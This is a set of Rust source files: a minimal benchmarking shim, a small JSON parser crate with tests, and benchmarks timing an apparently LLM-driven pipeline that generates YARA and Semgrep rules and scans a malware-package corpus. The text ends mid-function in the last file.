    fn default() -> Self {
        let smoke = std::env::args().any(|a| a == "--test");
        Criterion { smoke }
    }
}

impl Criterion {
    /// Applies CLI configuration (accepted for API compatibility).
    #[must_use]
    pub fn configure_from_args(self) -> Self {
        self
    }

    /// Opens a named benchmark group.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            criterion: self,
            name: name.into(),
            throughput: None,
        }
    }

    /// Runs a single ungrouped benchmark.
    pub fn bench_function<F>(&mut self, name: &str, f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher<'_>),
    {
        run_bench(self.smoke, name, None, f);
        self
    }
}

/// A group of related benchmarks sharing throughput settings.
pub struct BenchmarkGroup<'c> {
    criterion: &'c mut Criterion,
    name: String,
    throughput: Option<Throughput>,
}

impl BenchmarkGroup<'_> {
    /// Sets the sample count (accepted for API compatibility).
    pub fn sample_size(&mut self, _n: usize) -> &mut Self {
        self
    }

    /// Sets the throughput basis used in reports.
    pub fn throughput(&mut self, throughput: Throughput) -> &mut Self {
        self.throughput = Some(throughput);
        self
    }

    /// Runs one benchmark in the group.
    pub fn bench_function<F>(&mut self, id: impl std::fmt::Display, f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher<'_>),
    {
        let label = format!("{}/{}", self.name, id);
        run_bench(self.criterion.smoke, &label, self.throughput, f);
        self
    }

    /// Runs one parameterized benchmark in the group.
    pub fn bench_with_input<I: ?Sized, F>(
        &mut self,
        id: BenchmarkId,
        input: &I,
        mut f: F,
    ) -> &mut Self
    where
        F: FnMut(&mut Bencher<'_>, &I),
    {
        let label = format!("{}/{}", self.name, id);
        run_bench(self.criterion.smoke, &label, self.throughput, |b| {
            f(b, input)
        });
        self
    }

    /// Ends the group.
    pub fn finish(self) {}
}

fn run_bench<F>(smoke: bool, label: &str, throughput: Option<Throughput>, mut f: F)
where
    F: FnMut(&mut Bencher<'_>),
{
    let mut result = None;
    let mut bencher = Bencher {
        smoke,
        result: &mut result,
    };
    f(&mut bencher);
    let Some(sample) = result else {
        println!("{label:<48} (no measurement)");
        return;
    };
    if smoke {
        println!("{label:<48} ok (smoke)");
        return;
    }
    let per = sample.mean;
    let rate = throughput.map(|t| match t {
        Throughput::Bytes(n) => {
            let gib = n as f64 / per.as_secs_f64() / (1024.0 * 1024.0 * 1024.0);
            format!("  {gib:>8.3} GiB/s")
        }
        Throughput::Elements(n) => {
            let meps = n as f64 / per.as_secs_f64() / 1.0e6;
            format!("  {meps:>8.3} Melem/s")
        }
    });
    println!(
        "{label:<48} {:>12}  ({} iters){}",
        format_duration(per),
        sample.iters,
        rate.unwrap_or_default()
    );
}

fn format_duration(d: Duration) -> String {
    let ns = d.as_nanos();
    if ns < 1_000 {
        format!("{ns} ns")
    } else if ns < 1_000_000 {
        format!("{:.2} µs", ns as f64 / 1e3)
    } else if ns < 1_000_000_000 {
        format!("{:.2} ms", ns as f64 / 1e6)
    } else {
        format!("{:.2} s", ns as f64 / 1e9)
    }
}

/// Declares a group of benchmark functions.
#[macro_export]
macro_rules! criterion_group {
    ($group:ident, $($target:path),+ $(,)?) => {
        fn $group() {
            let mut criterion = $crate::Criterion::default().configure_from_args();
            $($target(&mut criterion);)+
        }
    };
}

/// Declares the bench binary's `main`, running each group.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $($group();)+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bencher_measures_something() {
        let mut result = None;
        let mut b = Bencher {
            smoke: false,
            result: &mut result,
        };
        b.iter(|| std::hint::black_box(3u64).wrapping_mul(7));
        assert!(result.expect("sample").iters >= 1);
    }

    #[test]
    fn benchmark_id_forms() {
        assert_eq!(BenchmarkId::new("f", 3).to_string(), "f/3");
        assert_eq!(BenchmarkId::from_parameter("gpt").to_string(), "gpt");
    }

    #[test]
    fn group_runs_in_smoke_mode() {
        let mut c = Criterion { smoke: true };
        let mut ran = 0;
        {
            let mut g = c.benchmark_group("g");
            g.sample_size(10).throughput(Throughput::Bytes(10));
            g.bench_function("one", |b| b.iter(|| ran += 1));
            g.finish();
        }
        assert_eq!(ran, 1);
    }
}

//! `jsonmini` — a minimal JSON document model.
//!
//! The build environment has no registry access, so the workspace's two
//! JSON consumers (the registry-API metadata path in `oss-registry` and
//! the experiment-report exporter in `eval`) share this small crate
//! instead of `serde_json`: a [`Value`] tree, a recursive-descent
//! [`parse`], and compact / pretty printers. Object key order is
//! preserved (insertion order), which keeps rendered documents stable and
//! diffable.
//!
//! # Examples
//!
//! ```
//! use jsonmini::Value;
//!
//! let doc = jsonmini::parse(r#"{"info": {"name": "colorstext", "n": 3}}"#).unwrap();
//! assert_eq!(doc["info"]["name"], "colorstext");
//! assert_eq!(doc["info"]["n"], 3);
//! let mut obj = Value::object();
//! obj.insert("ok", Value::Bool(true));
//! assert_eq!(obj.to_string(), r#"{"ok": true}"#);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

use std::fmt;

/// A JSON value.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// `null`.
    Null,
    /// `true` / `false`.
    Bool(bool),
    /// Any JSON number (stored as `f64`).
    Number(f64),
    /// A string.
    String(String),
    /// An array.
    Array(Vec<Value>),
    /// An object with insertion-ordered keys.
    Object(Vec<(String, Value)>),
}

impl Value {
    /// An empty object.
    pub fn object() -> Value {
        Value::Object(Vec::new())
    }

    /// Inserts (or replaces) `key` in an object; panics on non-objects.
    pub fn insert(&mut self, key: impl Into<String>, value: impl Into<Value>) {
        let Value::Object(entries) = self else {
            panic!("insert on non-object Value");
        };
        let key = key.into();
        let value = value.into();
        if let Some(slot) = entries.iter_mut().find(|(k, _)| *k == key) {
            slot.1 = value;
        } else {
            entries.push((key, value));
        }
    }

    /// Member lookup; `None` for missing keys or non-objects.
    pub fn get(&self, key: &str) -> Option<&Value> {
        match self {
            Value::Object(entries) => entries.iter().find(|(k, _)| k == key).map(|(_, v)| v),
            _ => None,
        }
    }

    /// Element lookup; `None` out of bounds or on non-arrays.
    pub fn get_index(&self, index: usize) -> Option<&Value> {
        match self {
            Value::Array(items) => items.get(index),
            _ => None,
        }
    }

    /// The string content, if this is a string.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::String(s) => Some(s),
            _ => None,
        }
    }

    /// The numeric content, if this is a number.
    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Value::Number(n) => Some(*n),
            _ => None,
        }
    }

    /// The array content, if this is an array.
    pub fn as_array(&self) -> Option<&[Value]> {
        match self {
            Value::Array(items) => Some(items),
            _ => None,
        }
    }

    /// Pretty-prints with two-space indentation.
    pub fn to_string_pretty(&self) -> String {
        let mut out = String::new();
        write_value(&mut out, self, Some(0));
        out
    }
}

impl fmt::Display for Value {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut out = String::new();
        write_value(&mut out, self, None);
        f.write_str(&out)
    }
}

impl From<&str> for Value {
    fn from(s: &str) -> Value {
        Value::String(s.to_owned())
    }
}

impl From<String> for Value {
    fn from(s: String) -> Value {
        Value::String(s)
    }
}

impl From<bool> for Value {
    fn from(b: bool) -> Value {
        Value::Bool(b)
    }
}

impl From<f64> for Value {
    fn from(n: f64) -> Value {
        Value::Number(n)
    }
}

impl From<usize> for Value {
    fn from(n: usize) -> Value {
        Value::Number(n as f64)
    }
}

impl From<Vec<Value>> for Value {
    fn from(items: Vec<Value>) -> Value {
        Value::Array(items)
    }
}

impl<T: Into<Value> + Clone> From<&[T]> for Value {
    fn from(items: &[T]) -> Value {
        Value::Array(items.iter().cloned().map(Into::into).collect())
    }
}

/// `value["key"]` — yields [`Value::Null`] for missing members.
impl std::ops::Index<&str> for Value {
    type Output = Value;
    fn index(&self, key: &str) -> &Value {
        self.get(key).unwrap_or(&NULL)
    }
}

/// `value[idx]` — yields [`Value::Null`] out of bounds.
impl std::ops::Index<usize> for Value {
    type Output = Value;
    fn index(&self, index: usize) -> &Value {
        self.get_index(index).unwrap_or(&NULL)
    }
}

static NULL: Value = Value::Null;

impl PartialEq<&str> for Value {
    fn eq(&self, other: &&str) -> bool {
        self.as_str() == Some(*other)
    }
}

impl PartialEq<f64> for Value {
    fn eq(&self, other: &f64) -> bool {
        self.as_f64() == Some(*other)
    }
}

impl PartialEq<bool> for Value {
    fn eq(&self, other: &bool) -> bool {
        matches!(self, Value::Bool(b) if b == other)
    }
}

macro_rules! impl_eq_int {
    ($($t:ty),*) => {$(
        impl PartialEq<$t> for Value {
            fn eq(&self, other: &$t) -> bool {
                self.as_f64() == Some(*other as f64)
            }
        }
    )*};
}

impl_eq_int!(i32, i64, u32, u64, usize);

// ------------------------------------------------------------- rendering

fn write_value(out: &mut String, value: &Value, indent: Option<usize>) {
    match value {
        Value::Null => out.push_str("null"),
        Value::Bool(b) => out.push_str(if *b { "true" } else { "false" }),
        Value::Number(n) => write_number(out, *n),
        Value::String(s) => write_string(out, s),
        Value::Array(items) => write_seq(out, items.iter(), indent, ('[', ']'), |out, v, ind| {
            write_value(out, v, ind);
        }),
        Value::Object(entries) => write_seq(
            out,
            entries.iter(),
            indent,
            ('{', '}'),
            |out, (k, v), ind| {
                write_string(out, k);
                out.push_str(": ");
                write_value(out, v, ind);
            },
        ),
    }
}

fn write_seq<T>(
    out: &mut String,
    items: impl ExactSizeIterator<Item = T>,
    indent: Option<usize>,
    brackets: (char, char),
    mut write_item: impl FnMut(&mut String, T, Option<usize>),
) {
    out.push(brackets.0);
    if items.len() == 0 {
        out.push(brackets.1);
        return;
    }
    let inner = indent.map(|i| i + 1);
    let mut first = true;
    for item in items {
        if !first {
            out.push(',');
        }
        first = false;
        match inner {
            Some(level) => {
                out.push('\n');
                out.push_str(&"  ".repeat(level));
            }
            None => {
                if out.ends_with(',') {
                    out.push(' ');
                }
            }
        }
        write_item(out, item, inner);
    }
    if let Some(level) = indent {
        out.push('\n');
        out.push_str(&"  ".repeat(level));
    }
    out.push(brackets.1);
}

fn write_number(out: &mut String, n: f64) {
    if n.is_finite() {
        if n == n.trunc() && n.abs() < 1e15 {
            out.push_str(&format!("{}", n as i64));
        } else {
            out.push_str(&format!("{n}"));
        }
    } else {
        out.push_str("null");
    }
}

fn write_string(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
}

// --------------------------------------------------------------- parsing

/// Parses a JSON document.
///
/// # Errors
///
/// Returns a human-readable message with the byte offset of the problem.
pub fn parse(text: &str) -> Result<Value, String> {
    let bytes = text.as_bytes();
    let mut pos = 0;
    let value = parse_value(text, bytes, &mut pos)?;
    skip_ws(bytes, &mut pos);
    if pos != bytes.len() {
        return Err(format!("trailing data at offset {pos}"));
    }
    Ok(value)
}

fn skip_ws(bytes: &[u8], pos: &mut usize) {
    while *pos < bytes.len() && matches!(bytes[*pos], b' ' | b'\t' | b'\n' | b'\r') {
        *pos += 1;
    }
}

fn parse_value(text: &str, bytes: &[u8], pos: &mut usize) -> Result<Value, String> {
    skip_ws(bytes, pos);
    match bytes.get(*pos) {
        None => Err("unexpected end of input".to_owned()),
        Some(b'{') => {
            *pos += 1;
            let mut entries = Vec::new();
            skip_ws(bytes, pos);
            if bytes.get(*pos) == Some(&b'}') {
                *pos += 1;
                return Ok(Value::Object(entries));
            }
            loop {
                skip_ws(bytes, pos);
                let key = parse_string(text, bytes, pos)?;
                skip_ws(bytes, pos);
                expect(bytes, pos, b':')?;
                let value = parse_value(text, bytes, pos)?;
                entries.push((key, value));
                skip_ws(bytes, pos);
                match bytes.get(*pos) {
                    Some(b',') => *pos += 1,
                    Some(b'}') => {
                        *pos += 1;
                        return Ok(Value::Object(entries));
                    }
                    _ => return Err(format!("expected ',' or '}}' at offset {pos}")),
                }
            }
        }
        Some(b'[') => {
            *pos += 1;
            let mut items = Vec::new();
            skip_ws(bytes, pos);
            if bytes.get(*pos) == Some(&b']') {
                *pos += 1;
                return Ok(Value::Array(items));
            }
            loop {
                items.push(parse_value(text, bytes, pos)?);
                skip_ws(bytes, pos);
                match bytes.get(*pos) {
                    Some(b',') => *pos += 1,
                    Some(b']') => {
                        *pos += 1;
                        return Ok(Value::Array(items));
                    }
                    _ => return Err(format!("expected ',' or ']' at offset {pos}")),
                }
            }
        }
        Some(b'"') => Ok(Value::String(parse_string(text, bytes, pos)?)),
        Some(b't') => parse_keyword(bytes, pos, "true", Value::Bool(true)),
        Some(b'f') => parse_keyword(bytes, pos, "false", Value::Bool(false)),
        Some(b'n') => parse_keyword(bytes, pos, "null", Value::Null),
        Some(_) => parse_number(text, bytes, pos),
    }
}

fn expect(bytes: &[u8], pos: &mut usize, expected: u8) -> Result<(), String> {
    if bytes.get(*pos) == Some(&expected) {
        *pos += 1;
        Ok(())
    } else {
        Err(format!("expected '{}' at offset {pos}", expected as char))
    }
}

fn parse_keyword(
    bytes: &[u8],
    pos: &mut usize,
    keyword: &str,
    value: Value,
) -> Result<Value, String> {
    if bytes[*pos..].starts_with(keyword.as_bytes()) {
        *pos += keyword.len();
        Ok(value)
    } else {
        Err(format!("invalid literal at offset {pos}"))
    }
}

fn parse_number(text: &str, bytes: &[u8], pos: &mut usize) -> Result<Value, String> {
    let start = *pos;
    while *pos < bytes.len()
        && matches!(bytes[*pos], b'0'..=b'9' | b'-' | b'+' | b'.' | b'e' | b'E')
    {
        *pos += 1;
    }
    text[start..*pos]
        .parse::<f64>()
        .map(Value::Number)
        .map_err(|_| format!("invalid number at offset {start}"))
}

fn parse_string(text: &str, bytes: &[u8], pos: &mut usize) -> Result<String, String> {
    expect(bytes, pos, b'"')?;
    let mut out = String::new();
    loop {
        match bytes.get(*pos) {
            None => return Err("unterminated string".to_owned()),
            Some(b'"') => {
                *pos += 1;
                return Ok(out);
            }
            Some(b'\\') => {
                *pos += 1;
                match bytes.get(*pos) {
                    Some(b'"') => out.push('"'),
                    Some(b'\\') => out.push('\\'),
                    Some(b'/') => out.push('/'),
                    Some(b'n') => out.push('\n'),
                    Some(b'r') => out.push('\r'),
                    Some(b't') => out.push('\t'),
                    Some(b'b') => out.push('\u{8}'),
                    Some(b'f') => out.push('\u{c}'),
                    Some(b'u') => {
                        let hex = text.get(*pos + 1..*pos + 5).ok_or("truncated \\u escape")?;
                        let mut code =
                            u32::from_str_radix(hex, 16).map_err(|_| "bad \\u escape")?;
                        *pos += 4;
                        // Non-BMP characters arrive as a surrogate pair of
                        // two consecutive \uXXXX escapes.
                        if (0xD800..0xDC00).contains(&code)
                            && text.get(*pos + 1..*pos + 3) == Some("\\u")
                        {
                            let low_hex =
                                text.get(*pos + 3..*pos + 7).ok_or("truncated \\u escape")?;
                            let low =
                                u32::from_str_radix(low_hex, 16).map_err(|_| "bad \\u escape")?;
                            if (0xDC00..0xE000).contains(&low) {
                                code = 0x10000 + ((code - 0xD800) << 10) + (low - 0xDC00);
                                *pos += 6;
                            }
                        }
                        out.push(char::from_u32(code).unwrap_or('\u{fffd}'));
                    }
                    _ => return Err(format!("bad escape at offset {pos}")),
                }
                *pos += 1;
            }
            Some(_) => {
                // Consume one full UTF-8 character.
                let rest = &text[*pos..];
                let c = rest.chars().next().ok_or("invalid utf-8 boundary")?;
                out.push(c);
                *pos += c.len_utf8();
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_nested() {
        let src = r#"{"a": [1, 2.5, "x"], "b": {"c": true, "d": null}}"#;
        let v = parse(src).expect("parse");
        assert_eq!(v.to_string(), src);
    }

    #[test]
    fn pretty_format_matches_serde_style() {
        let mut v = Value::object();
        v.insert("scale", "tiny");
        v.insert("n", 3usize);
        assert_eq!(
            v.to_string_pretty(),
            "{\n  \"scale\": \"tiny\",\n  \"n\": 3\n}"
        );
    }

    #[test]
    fn index_chains() {
        let v = parse(r#"{"rows": [{"confusion": [9, 1, 8, 2]}]}"#).expect("parse");
        assert_eq!(v["rows"][0]["confusion"][0], 9);
        assert_eq!(v["rows"][7]["missing"], Value::Null);
    }

    #[test]
    fn string_escapes_roundtrip() {
        let original = Value::String("a\"b\\c\nd\tе".to_owned());
        let rendered = original.to_string();
        assert_eq!(parse(&rendered).expect("parse"), original);
    }

    #[test]
    fn float_rendering_is_short() {
        assert_eq!(Value::Number(0.9).to_string(), "0.9");
        assert_eq!(Value::Number(3.0).to_string(), "3");
    }

    #[test]
    fn rejects_garbage() {
        assert!(parse("not json").is_err());
        assert!(parse("{\"a\": }").is_err());
        assert!(parse("[1, 2").is_err());
        assert!(parse("{} trailing").is_err());
    }

    #[test]
    fn surrogate_pair_escapes_decode_to_non_bmp() {
        let v = parse(r#""😀""#).expect("parse");
        assert_eq!(v, "😀");
        // BMP escapes still decode singly.
        let v = parse(r#""Aé""#).expect("parse");
        assert_eq!(v, "Aé");
        // A lone high surrogate degrades to the replacement character
        // instead of corrupting the following content.
        let v = parse(r#""\ud83dx""#).expect("parse");
        assert_eq!(v, "\u{fffd}x");
    }

    #[test]
    fn unicode_content_survives() {
        let v = parse(r#"{"k": "значение 値"}"#).expect("parse");
        assert_eq!(v["k"], "значение 値");
    }

    #[test]
    fn insert_replaces_existing_key() {
        let mut v = Value::object();
        v.insert("k", 1usize);
        v.insert("k", 2usize);
        assert_eq!(v["k"], 2);
        assert_eq!(v.to_string(), r#"{"k": 2}"#);
    }
}

//! Table VIII + Figures 5–10 bench: the full pipeline, the baselines and
//! the per-rule statistics that feed every main-result figure.

use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

use corpus::CorpusConfig;
use eval::experiments::{
    self, compile_output, matched_curve, per_rule_stats, run_rulellm, ExperimentContext,
};
use llm_sim::RuleFormat;
use rulellm::PipelineConfig;

fn bench_main(c: &mut Criterion) {
    let ctx = ExperimentContext::new(&CorpusConfig::tiny());
    let mut g = c.benchmark_group("table8_main_comparison");
    g.sample_size(10);

    g.bench_function("rulellm_pipeline", |b| {
        b.iter(|| run_rulellm(black_box(&ctx.dataset), PipelineConfig::full()))
    });

    let output = run_rulellm(&ctx.dataset, PipelineConfig::full());
    let (yara, semgrep) = compile_output(&output);
    g.bench_function("scan_rulellm_rules", |b| {
        b.iter(|| eval::scan::scan_all(Some(&yara), Some(&semgrep), black_box(&ctx.targets)))
    });

    let corpus_rules =
        yara_engine::compile(&baselines::scanners::yara_corpus()).expect("corpus compiles");
    g.bench_function("scan_yara_scanner_corpus", |b| {
        b.iter(|| eval::scan::scan_all(Some(&corpus_rules), None, black_box(&ctx.targets)))
    });

    let unique: Vec<&oss_registry::Package> = ctx
        .dataset
        .unique_malware()
        .into_iter()
        .map(|m| &m.package)
        .collect();
    let legit: Vec<&oss_registry::Package> = ctx.dataset.legit.iter().map(|l| &l.package).collect();
    g.bench_function("score_based_generation", |b| {
        b.iter(|| baselines::scored::generate_rules(black_box(&unique), black_box(&legit), 42))
    });

    // Figures 5-10 post-processing.
    let matches = eval::scan::scan_all(Some(&yara), Some(&semgrep), &ctx.targets);
    g.bench_function("fig5_6_matched_curves", |b| {
        b.iter(|| {
            (
                matched_curve(black_box(&matches), &ctx.targets, RuleFormat::Yara, 4),
                matched_curve(black_box(&matches), &ctx.targets, RuleFormat::Semgrep, 12),
            )
        })
    });
    let names: Vec<String> = yara.rules.iter().map(|r| r.rule.name.clone()).collect();
    g.bench_function("fig7_9_per_rule_stats", |b| {
        b.iter(|| {
            let stats = per_rule_stats(black_box(&names), &matches, &ctx.targets, RuleFormat::Yara);
            let hist = experiments::precision_histogram(&stats);
            let cdf = experiments::coverage_cdf(&stats);
            (hist, cdf)
        })
    });
    g.finish();
}

criterion_group!(benches, bench_main);
criterion_main!(benches);

//! Table X bench: cost of each ablation arm (the full pipeline pays for
//! refinement prompts and fix rounds; the LLM-alone arm pays for longer
//! prompts instead).

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use std::hint::black_box;

use corpus::{CorpusConfig, Dataset};
use eval::experiments::{ablation_configs, run_rulellm};

fn bench_ablation(c: &mut Criterion) {
    let dataset = Dataset::generate(&CorpusConfig::tiny());
    let mut g = c.benchmark_group("table10_ablation");
    g.sample_size(10);
    for (name, config) in ablation_configs() {
        g.bench_with_input(BenchmarkId::from_parameter(name), &config, |b, config| {
            b.iter(|| run_rulellm(black_box(&dataset), config.clone()))
        });
    }
    g.finish();
}

criterion_group!(benches, bench_ablation);
criterion_main!(benches);

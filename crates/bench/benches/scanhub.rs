//! Scanhub throughput bench: the streaming service (artifact cache +
//! prefilter + verdict cache + worker pool) against the seed's
//! exhaustive scan loop, on the same tiny-corpus targets and the same
//! generated ruleset — plus cold-vs-warm artifact-cache arms and a
//! version-bump workload (1 file changed out of 50 per upload).
//!
//! The acceptance bar for the artifact-cache PR: the warm-artifact
//! version-bump arm must be >=5x faster than the cold arm (asserted in
//! release CI by `scanhub_artifact_cache_smoke`).

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use std::hint::black_box;

use corpus::CorpusConfig;
use eval::experiments::{compile_output, run_rulellm, ExperimentContext};
use eval::scan::ScanTarget;
use rulellm::PipelineConfig;
use rulellm_bench::scanhub_bench;
use scanhub::{HubConfig, ScanHub, ScanRequest};
use semgrep_engine::CompiledSemgrepRules;
use yara_engine::CompiledRules;

/// The seed's scan loop: every rule against every package, one thread,
/// no routing, no cache, no artifacts — and the reparse-per-call Semgrep
/// matcher (`semgrep_engine::reference`), i.e. the pre-scanhub, pre-
/// compiled-pattern cost model over the flattened request.
fn exhaustive_scan(
    yara: &CompiledRules,
    semgrep: &CompiledSemgrepRules,
    targets: &[ScanTarget],
) -> usize {
    let scanner = yara_engine::Scanner::new(yara);
    let mut flagged = 0;
    for t in targets {
        let mut hits = scanner.scan(&t.request.concat_buffer()).len();
        for src in t.request.python_sources() {
            let module = pysrc::parse_module(&src);
            for rule in &semgrep.rules {
                hits += semgrep_engine::reference::match_module(rule, &module).len();
            }
        }
        if hits > 0 {
            flagged += 1;
        }
    }
    flagged
}

fn requests(targets: &[ScanTarget]) -> Vec<ScanRequest> {
    targets.iter().map(|t| t.request.clone()).collect()
}

fn bench_scanhub(c: &mut Criterion) {
    let ctx = ExperimentContext::new(&CorpusConfig::tiny());
    let output = run_rulellm(&ctx.dataset, PipelineConfig::full());
    let (yara, semgrep) = compile_output(&output);
    let bytes: u64 = ctx
        .targets
        .iter()
        .map(|t| t.request.scan_len() as u64)
        .sum();

    let mut g = c.benchmark_group("scanhub_throughput");
    g.sample_size(10);
    g.throughput(Throughput::Bytes(bytes));

    g.bench_function("seed_exhaustive_single_thread", |b| {
        b.iter(|| exhaustive_scan(&yara, &semgrep, black_box(&ctx.targets)))
    });

    g.bench_function("scanhub_cold_per_batch", |b| {
        // Worst case for the service: hub construction (prefilter index
        // included) is paid inside the measured region, every cache
        // starts empty.
        b.iter(|| {
            let hub = ScanHub::new(
                Some(yara.clone()),
                Some(semgrep.clone()),
                HubConfig {
                    cache_capacity: 0,
                    artifact_cache_capacity: 0,
                    ..HubConfig::default()
                },
            );
            hub.scan_ordered(requests(black_box(&ctx.targets))).len()
        })
    });

    let warm = ScanHub::new(
        Some(yara.clone()),
        Some(semgrep.clone()),
        HubConfig::default(),
    );
    g.bench_function("scanhub_warm_service", |b| {
        // Steady state: long-lived service, verdict + artifact caches
        // populated by earlier traffic (registry re-uploads).
        b.iter(|| warm.scan_ordered(requests(black_box(&ctx.targets))).len())
    });

    let warm_artifacts_only = ScanHub::new(
        Some(yara.clone()),
        Some(semgrep.clone()),
        HubConfig {
            cache_capacity: 0,
            ..HubConfig::default()
        },
    );
    g.bench_function("scanhub_warm_artifacts_no_verdict_cache", |b| {
        // Ablation: per-file artifact reuse without request-level dedup —
        // the cost of re-verdicting a fully warm corpus.
        b.iter(|| {
            warm_artifacts_only
                .scan_ordered(requests(black_box(&ctx.targets)))
                .len()
        })
    });

    let nofilter = ScanHub::new(
        Some(yara.clone()),
        Some(semgrep.clone()),
        HubConfig {
            prefilter: false,
            cache_capacity: 0,
            artifact_cache_capacity: 0,
            ..HubConfig::default()
        },
    );
    g.bench_function("scanhub_no_prefilter_no_caches", |b| {
        // Ablation: worker pool only.
        b.iter(|| {
            nofilter
                .scan_ordered(requests(black_box(&ctx.targets)))
                .len()
        })
    });
    g.finish();

    // Version-bump workload: 50-file package, one file rewritten per
    // upload — the registry traffic shape the artifact cache exists for.
    let stream = scanhub_bench::version_stream(50, 20, 42);
    let stream_bytes: u64 = stream.iter().map(|r| r.scan_len() as u64).sum();
    let bump_rules = scanhub_bench::yara_ruleset(40);
    let mut g = c.benchmark_group("scanhub_version_bump");
    g.sample_size(10);
    g.throughput(Throughput::Bytes(stream_bytes));
    g.bench_function("cold_artifacts", |b| {
        b.iter(|| {
            let hub = ScanHub::new(
                Some(bump_rules.clone()),
                None,
                HubConfig {
                    cache_capacity: 0,
                    artifact_cache_capacity: 0,
                    ..HubConfig::default()
                },
            );
            hub.scan_ordered(stream.iter().cloned()).len()
        })
    });
    g.bench_function("warm_artifacts", |b| {
        b.iter(|| {
            let hub = ScanHub::new(
                Some(bump_rules.clone()),
                None,
                HubConfig {
                    cache_capacity: 0,
                    ..HubConfig::default()
                },
            );
            hub.scan_ordered(stream.iter().cloned()).len()
        })
    });
    g.finish();

    let stats = warm.stats();
    println!(
        "warm service counters: {} submitted, cache hit rate {:.1}%, artifact hit rate {:.1}%, prefilter skip rate {:.1}%",
        stats.submitted,
        stats.cache_hit_rate() * 100.0,
        stats.artifact_hit_rate() * 100.0,
        stats.prefilter_skip_rate() * 100.0,
    );
}

criterion_group!(benches, bench_scanhub);
criterion_main!(benches);

//! Scanhub throughput bench: the streaming service (prefilter + cache +
//! worker pool) against the seed's exhaustive scan loop, on the same
//! tiny-corpus targets and the same generated ruleset.
//!
//! The acceptance bar for the scanhub PR: the prefilter/cache path must
//! not be slower than exhaustive scanning on the tiny corpus, and should
//! pull ahead as duplicate traffic (`rescan` arms) and clean traffic
//! (prefilter skips) grow.

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use std::hint::black_box;

use corpus::CorpusConfig;
use eval::experiments::{compile_output, run_rulellm, ExperimentContext};
use eval::scan::ScanTarget;
use rulellm::PipelineConfig;
use scanhub::{HubConfig, ScanHub, ScanRequest};
use semgrep_engine::CompiledSemgrepRules;
use yara_engine::CompiledRules;

/// The seed's scan loop: every rule against every package, one thread,
/// no routing, no cache — and the reparse-per-call Semgrep matcher
/// (`semgrep_engine::reference`), i.e. the pre-scanhub, pre-compiled-
/// pattern cost model.
fn exhaustive_scan(
    yara: &CompiledRules,
    semgrep: &CompiledSemgrepRules,
    targets: &[ScanTarget],
) -> usize {
    let scanner = yara_engine::Scanner::new(yara);
    let mut flagged = 0;
    for t in targets {
        let mut hits = scanner.scan(&t.buffer).len();
        for src in &t.sources {
            let module = pysrc::parse_module(src);
            for rule in &semgrep.rules {
                hits += semgrep_engine::reference::match_module(rule, &module).len();
            }
        }
        if hits > 0 {
            flagged += 1;
        }
    }
    flagged
}

fn requests(targets: &[ScanTarget]) -> Vec<ScanRequest> {
    targets
        .iter()
        .map(|t| ScanRequest::new(t.buffer.clone(), t.sources.clone()))
        .collect()
}

fn bench_scanhub(c: &mut Criterion) {
    let ctx = ExperimentContext::new(&CorpusConfig::tiny());
    let output = run_rulellm(&ctx.dataset, PipelineConfig::full());
    let (yara, semgrep) = compile_output(&output);
    let bytes: u64 = ctx.targets.iter().map(|t| t.buffer.len() as u64).sum();

    let mut g = c.benchmark_group("scanhub_throughput");
    g.sample_size(10);
    g.throughput(Throughput::Bytes(bytes));

    g.bench_function("seed_exhaustive_single_thread", |b| {
        b.iter(|| exhaustive_scan(&yara, &semgrep, black_box(&ctx.targets)))
    });

    g.bench_function("scanhub_cold_per_batch", |b| {
        // Worst case for the service: hub construction (prefilter index
        // included) is paid inside the measured region, cache starts
        // empty.
        b.iter(|| {
            let hub = ScanHub::new(
                Some(yara.clone()),
                Some(semgrep.clone()),
                HubConfig {
                    cache_capacity: 0,
                    ..HubConfig::default()
                },
            );
            hub.scan_ordered(requests(black_box(&ctx.targets))).len()
        })
    });

    let warm = ScanHub::new(
        Some(yara.clone()),
        Some(semgrep.clone()),
        HubConfig::default(),
    );
    g.bench_function("scanhub_warm_service", |b| {
        // Steady state: long-lived service, verdict cache populated by
        // earlier traffic (registry re-uploads).
        b.iter(|| warm.scan_ordered(requests(black_box(&ctx.targets))).len())
    });

    let nofilter = ScanHub::new(
        Some(yara.clone()),
        Some(semgrep.clone()),
        HubConfig {
            prefilter: false,
            cache_capacity: 0,
            ..HubConfig::default()
        },
    );
    g.bench_function("scanhub_no_prefilter_no_cache", |b| {
        // Ablation: worker pool only.
        b.iter(|| {
            nofilter
                .scan_ordered(requests(black_box(&ctx.targets)))
                .len()
        })
    });
    g.finish();

    let stats = warm.stats();
    println!(
        "warm service counters: {} submitted, cache hit rate {:.1}%, prefilter skip rate {:.1}%",
        stats.submitted,
        stats.cache_hit_rate() * 100.0,
        stats.prefilter_skip_rate() * 100.0,
    );
}

criterion_group!(benches, bench_scanhub);
criterion_main!(benches);

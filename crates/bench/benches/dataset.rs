//! Table VI bench: corpus generation and deduplication cost.

use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;

use corpus::{CorpusConfig, Dataset};

fn bench_dataset(c: &mut Criterion) {
    let mut g = c.benchmark_group("table6_dataset");
    g.sample_size(10);
    g.bench_function("generate_tiny", |b| {
        b.iter(|| Dataset::generate(black_box(&CorpusConfig::tiny())))
